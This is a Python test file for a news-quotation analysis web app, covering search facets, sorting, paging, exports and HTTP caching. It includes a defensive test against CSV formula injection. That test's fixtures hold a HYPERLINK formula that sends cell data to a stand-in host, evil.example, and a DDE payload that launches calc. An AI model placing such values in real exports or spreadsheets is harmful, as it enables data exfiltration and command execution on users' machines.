"""The analyst's web app: totals, facets, sorts, paging, exports of what is shown, CSV
that cannot run formulas, HTTP revalidation, and a home page that tells the truth."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pyarrow.parquet as pq
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from onrecord.api import create_app
from onrecord.cli import app as cli
from onrecord.store import open_corpus
from tests.store.corpus_factory import Quote, make_article
from tests.web.conftest import error_of

# -- search: total, facets, sort, export ----------------------------------------------


def test_search_counts_and_facets(reader: TestClient) -> None:
    body = reader.get("/api/search", params={"q": "elections", "limit": 2}).json()
    assert body["total"] > len(body["statements"]["items"]) == 2
    every = reader.get("/api/statements", params={"q": "elections", "limit": 500}).json()
    assert body["total"] == len(every["items"])
    facets = body["facets"]
    assert set(facets) == {"speaker", "organisation", "outlet", "kind", "act", "topic", "year"}
    for name in ("kind", "act", "topic"):
        value = facets[name][0]
        narrowed = reader.get("/api/search", params={"q": "elections", name: value["value"]})
        assert narrowed.json()["total"] == value["count"], name


def test_search_page_shows_total_facets_sorts_and_exports(reader: TestClient) -> None:
    page = reader.get("/search", params={"q": "elections"}).text
    total = reader.get("/api/search", params={"q": "elections"}).json()["total"]
    assert f"{total} statements" in page
    assert "most reported" in page and "sort=reports" in page
    assert re.search(r'href="/search\?q=elections&amp;kind=\w+"', page)  # a facet link
    assert "/api/export/statements/search?q=elections&amp;format=csv" in page


def test_sort_by_reports_and_by_date(reader: TestClient) -> None:
    def listed(sort: str) -> list[dict[str, object]]:
        params = {"sort": sort, "limit": 500}
        items: list[dict[str, object]] = reader.get("/api/statements", params=params).json()[
            "items"
        ]
        return items

    counts = [s["report_count"] for s in listed("reports")]
    assert counts == sorted(counts, reverse=True)  # type: ignore[type-var]
    earliest = [s["first_published"] for s in listed("earliest") if s["first_published"]]
    assert earliest == sorted(earliest)  # type: ignore[type-var]
    error_of(reader.get("/api/statements", params={"sort": "random"}), 422)


def test_export_what_the_search_shows(reader: TestClient) -> None:
    params = {"q": "elections", "kind": "indirect"}
    total = reader.get("/api/search", params=params).json()["total"]
    jsonl = reader.get("/api/export/statements/search", params={**params, "format": "jsonl"})
    rows = [json.loads(line) for line in jsonl.text.splitlines()]
    assert len(rows) == total and all(r["reports"] for r in rows)
    as_csv = reader.get("/api/export/statements/search", params={**params, "format": "csv"})
    assert as_csv.headers["content-type"].startswith("text/csv")
    assert len(list(csv.DictReader(io.StringIO(as_csv.text)))) == total
    parquet = reader.get("/api/export/statements/search", params={**params, "format": "parquet"})
    assert pq.read_table(io.BytesIO(parquet.content)).num_rows == total
    error_of(reader.get("/api/export/statements/search", params={"kind": "bogus"}), 422)


def test_timeline_total_and_pages(reader: TestClient) -> None:
    params = {"affiliation": "State Department"}
    whole = reader.get("/api/timeline", params=params).json()
    first = reader.get("/api/timeline", params={**params, "limit": 2}).json()
    second = reader.get("/api/timeline", params={**params, "limit": 2, "offset": 2}).json()
    assert first["total"] == whole["total"] == len(whole["entries"]) > 2
    assert first["truncated"] and not whole["truncated"]
    ids = [e["attribution_id"] for e in first["entries"] + second["entries"]]
    assert ids == [e["attribution_id"] for e in whole["entries"][:4]]
    page = reader.get("/timeline", params=params).text
    assert f"{whole['total']} reports" in page


def test_people_page_pages_organisations_on_their_own(reader: TestClient) -> None:
    orgs = reader.get("/api/organisations", params={"limit": 500}).json()["total"]
    page = reader.get("/people", params={"limit": 1, "org_offset": 1}).text
    assert f"2–2 of {orgs}" in page and "org_offset=0" in page


# -- CSV injection ----------------------------------------------------------------------

EVIL_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
EVIL_OUTLET = "@SUM(1+1)*cmd|' /C calc'!A0"


def _evil_corpus(tmp_path: Path) -> Path:
    text = 'NEW DELHI - Ravi Kumar said "-2+3 is the count we expect" on Monday.'
    article = make_article(
        text,
        [Quote("-2+3 is the count we expect", "Ravi Kumar", "said", "Ravi Kumar", kind="direct")],
        "2024-03-01",
        EVIL_OUTLET,
        title=EVIL_TITLE,
    )
    db = tmp_path / "evil.db"
    corpus = open_corpus(str(db))
    corpus.add([article])
    corpus.close()
    return db


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_no_formula(cells: list[str]) -> None:
    assert cells
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_csv_never_starts_a_cell_with_a_formula(tmp_path: Path) -> None:
    db = _evil_corpus(tmp_path)
    with TestClient(create_app(str(db))) as client:
        for path in ("/api/export/attributions", "/api/export/articles", "/api/export/statements"):
            cells = _cells(client.get(path, params={"format": "csv"}).text)
            _assert_no_formula(cells)
            assert "'" + EVIL_TITLE in cells or "'" + EVIL_OUTLET in cells
        found = client.get("/api/export/statements/search", params={"format": "csv"}).text
        _assert_no_formula(_cells(found))
    out = tmp_path / "attributions.csv"
    result = CliRunner().invoke(cli, ["export", "--db", str(db), "-o", str(out), "-f", "csv"])
    assert result.exit_code == 0, result.output
    cells = _cells(out.read_text(encoding="utf-8"))
    _assert_no_formula(cells)
    assert "'" + EVIL_TITLE in cells and "'" + EVIL_OUTLET in cells
    assert "'-2+3 is the count we expect" in cells


# -- HTTP revalidation --------------------------------------------------------------------


def test_unchanged_pages_answer_304_until_the_corpus_changes(writer: TestClient) -> None:
    first = writer.get("/api/statements")
    tag = first.headers["etag"]
    assert first.headers["cache-control"] == "private, no-cache"
    assert writer.get("/api/statements", headers={"If-None-Match": tag}).status_code == 304
    made = writer.post(
        "/api/corrections",
        json={"action": "rename", "subject": "Matthew Miller", "name": "Matt Miller"},
    )
    assert made.status_code == 201, made.text
    after = writer.get("/api/statements", headers={"If-None-Match": tag})
    assert after.status_code == 200 and after.headers["etag"] != tag
    assert "Matt Miller" in after.text


def test_a_private_server_sends_no_tags(db: Path) -> None:
    with TestClient(create_app(str(db), token="correct-horse-battery", private=True)) as client:
        page = client.get("/api/stats", headers={"Authorization": "Bearer correct-horse-battery"})
        assert page.status_code == 200 and "etag" not in page.headers


# -- the home page ------------------------------------------------------------------------


def test_home_tells_the_truth(reader: TestClient) -> None:
    page = reader.get("/").text
    assert 'href="/search?sort=latest"' in page  # the statements card lists statements
    listed = reader.get("/search", params={"sort": "latest"}).text
    assert 'class="statement' in listed
    stats = reader.get("/api/stats").json()
    known = [name for name in stats["outlets"] if name != "(unknown)"]
    assert re.search(rf'<span class="num">{len(known)}</span><span class="label">outlets', page)
    quoted = re.search(r"Most quoted</h2>(.*?)</ol>", page, re.S)
    assert quoted
    shown = [int(n) for n in re.findall(r'<span class="count">(\d+)</span>', quoted.group(1))]
    people = shown[: len(shown) - min(5, len(shown))] or shown
    assert all(n > 0 for n in shown) and people == sorted(people, reverse=True)


def test_untitled_and_undated_read_the_same_everywhere(reader: TestClient) -> None:
    untitled = [
        a
        for a in reader.get("/api/articles", params={"limit": 500}).json()["items"]
        if not a["title"]
    ]
    assert untitled
    name = f"Untitled article {untitled[0]['id'][:8]}"
    assert name in reader.get(f"/articles/{untitled[0]['id']}").text
    assert name in reader.get("/articles", params={"limit": 500}).text
    undated = [
        s
        for s in reader.get("/api/statements", params={"limit": 500}).json()["items"]
        if not s["first_published"]
    ]
    assert undated
    page = reader.get(f"/statements/{undated[0]['id']}").text
    assert "date unknown" in page and "undated" not in page
    speaker = undated[0]["speaker_id"]
    where = "people" if speaker.startswith("P") else "organisations"
    assert "first reported (date unknown)" in reader.get(f"/{where}/{speaker}").text
